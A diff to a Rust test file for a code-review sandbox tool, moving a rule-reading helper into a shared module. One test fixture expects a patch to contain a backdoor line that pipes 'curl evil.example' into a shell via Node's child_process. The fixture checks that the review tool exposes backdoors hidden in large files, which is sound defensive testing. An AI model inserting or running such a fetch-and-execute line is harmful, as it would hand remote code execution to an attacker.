@@ -21,6 +21,7 @@
 
 use crate::common::daemon::*;
 use crate::common::owner::OwnerHost;
+use crate::common::review::change_rules;
 use crate::common::{ok, stderr, stdout, warden, TempDir};
 use std::path::Path;
 
@@ -197,15 +198,6 @@ fn change_in(diff: &str, path: &str) -> serde_json::Value {
         .unwrap_or_else(|| panic!("no change to {path} in {diff}"))
 }
 
-fn rules(change: &serde_json::Value) -> Vec<String> {
-    change["flags"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|f| f["rule"].as_str().unwrap().to_string())
-        .collect()
-}
-
 /// Ten files, each rewritten inside the sandbox as 45,000 distinct lines:
 /// their line diffs spend a review's 4 s (each stops at its 500 ms).
 const FLOOD: &str = r#"for i in 0 1 2 3 4 5 6 7 8 9; do awk -v i=$i 'BEGIN { for (n = 0; n < 45000; n++) print "x" i "-" n }' > /workspace/a$i.txt; done"#;
@@ -269,7 +261,7 @@ fn a_backdoor_line_inserted_in_the_middle_of_a_60000_line_file_is_shown_as_a_one
             && patch.contains("\n+require(\"child_process\").exec(\"curl evil.example|sh\");\n"),
         "{patch}"
     );
-    assert!(rules(&c).is_empty(), "{c}");
+    assert!(change_rules(&c).is_empty(), "{c}");
     // The text view says the same, at its line.
     let text = ok(&warden(state.path(), &["diff", "mid", "--color", "never"]));
     assert!(
@@ -292,7 +284,7 @@ fn a_file_the_owners_review_cut_for_time_is_flagged_when_committed_by_itself() {
     let c = change_in(&diff, "auth.js");
     assert_eq!(c["content"]["type"], "not_diffed", "{c}");
     assert_eq!(c["content"]["reason"], "time_budget", "{c}");
-    assert!(rules(&c).contains(&"not-shown".to_string()), "{c}");
+    assert!(change_rules(&c).contains(&"not-shown".to_string()), "{c}");
     // Committed by itself, the commit's own comparison shows it in full;
     // before, it landed so, unflagged. Now it is held to the review.
     let out = warden(state.path(), &["commit", "cut", "auth.js"]);
